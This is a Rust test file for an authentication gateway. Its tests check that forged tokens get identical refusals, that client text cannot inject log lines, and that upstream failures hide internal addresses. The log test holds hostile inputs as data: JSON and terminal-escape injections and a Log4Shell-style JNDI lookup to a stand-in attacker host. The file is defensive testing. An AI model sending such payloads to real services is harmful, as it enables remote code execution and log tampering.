//! Rule 9: an answer says what to do next and nothing about why; the log says all of it but the token.

use std::io::{Read as _, Write as _};

use crate::support::process::{PLAIN, Process};
use crate::support::{PATH, Upstream, keys, start, start_with};

/// Whoever tries keys and signatures learns from no answer how far a forgery came.
#[tokio::test]
async fn x9a_answers_to_forgeries_are_alike_to_the_byte() {
    let (issuer, _upstream, gateway) = start().await;
    let [header, payload, _] = issuer.mint().parts();
    let [_, _, foreign] = issuer.mint().key(keys::other_rsa()).parts();
    let forgeries = [
        ("unknown key", issuer.mint().key(keys::other_rsa()).to_string()),
        ("known key, foreign signature", format!("{header}.{payload}.{foreign}")),
        ("known key, short signature", format!("{header}.{payload}.AAAA")),
        ("key of another kind", issuer.mint().header("kid", keys::ec().id).to_string()),
        ("no key id", issuer.mint().key(keys::other_rsa()).without_header("kid").to_string()),
    ];
    for client in [gateway.client(), gateway.client().http2()] {
        let mut answers = Vec::new();
        for (what, token) in &forgeries {
            let reply = client.clone().bearer(token).post(PATH).await;
            let id = reply.header("x-request-id").unwrap().to_owned();
            let fields = reply.fields().0.iter().filter(|(name, _)| !name.eq_ignore_ascii_case("date"));
            let fields: Vec<_> = fields.map(|(name, value)| format!("{name}: {value}").replace(&id, "ID")).collect();
            answers.push((what, (reply.status(), fields, reply.text().replace(&id, "ID"))));
        }
        for (what, answer) in &answers {
            assert_eq!(answer, &answers[0].1, "{what}");
        }
    }
}

/// What a client writes stands in one line of the log as one text, whatever it is made of.
#[test]
fn x9b_text_of_a_client_begins_no_line_and_no_field_of_the_log() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("gateway.toml");
    std::fs::write(&file, format!("{PLAIN}[log]\nevery_refusal = true\n")).unwrap();
    let gateway = Process::start(&file);
    for path in [
        r#"/"},{"event":"served","path":"/x"#,
        r#"/\","event":"served","x":"\"#,
        "/%0a%7B%22event%22:%22served%22%7D",
        "/%1b[2J%1b]0;owned%07",
        "/%E2%80%AE%2e%2e",
        "/\\u000a\\u001b[31m",
        "/${jndi:ldap://evil.example/x}",
    ] {
        let mut stream = std::net::TcpStream::connect(gateway.addresses[0]).unwrap();
        write!(stream, "GET {path} HTTP/1.1\r\nhost: mcp.example.com:443\r\nconnection: close\r\n\r\n").unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        assert!(answer.starts_with("HTTP/1.1 404"), "{answer}");
        // Each line is read as JSON: one that is none ends the test.
        let line = gateway.says("refused");
        assert_eq!(line["path"], path);
        assert_eq!(line["event"], "refused");
    }
}

/// Where the upstream is, and what it runs on, is told to the operator alone.
#[tokio::test]
async fn x9c_failures_of_an_upstream_do_not_say_where_it_is() {
    let (issuer, upstream, gateway) = start().await;
    let mut replies = Vec::new();
    let leaky = "HTTP/1.1 401 Told\r\nserver: inner/1.0\r\nwww-authenticate: Basic realm=\"inner\"\r\ncontent-length: 5\r\n\r\ninner";
    let moved = "HTTP/1.1 302 Found\r\nlocation: http://inner.example/mcp\r\ncontent-length: 5\r\n\r\ninner";
    for bytes in [leaky, moved, "HTTP/1.1 inner\r\n\r\n", "inner"] {
        upstream.answers_bytes_and_closes(bytes);
        replies.push((gateway.client().bearer(issuer.mint()).post(PATH).await, upstream.authority()));
    }
    let nowhere = Upstream::nowhere().await;
    let changes = format!("routes = [{{ name = \"notes\", upstream = \"{nowhere}\" }}]");
    let (issuer, _upstream, gateway) = start_with(&changes).await;
    let authority = nowhere.trim_start_matches("http://").trim_end_matches("/mcp").to_owned();
    replies.push((gateway.client().bearer(issuer.mint()).post(PATH).await, authority));
    for (reply, authority) in replies {
        assert_eq!(reply.status(), 502);
        let told = format!("{:?} {}", reply.fields(), reply.text());
        let port = authority.rsplit(':').next().unwrap();
        assert!(!told.contains(&authority) && !told.contains(port) && !told.contains("inner"), "{told}");
        assert!(reply.header("location").is_none() && reply.header("server").is_none());
        assert!(!reply.log().await.text("reason").is_empty());
    }
}
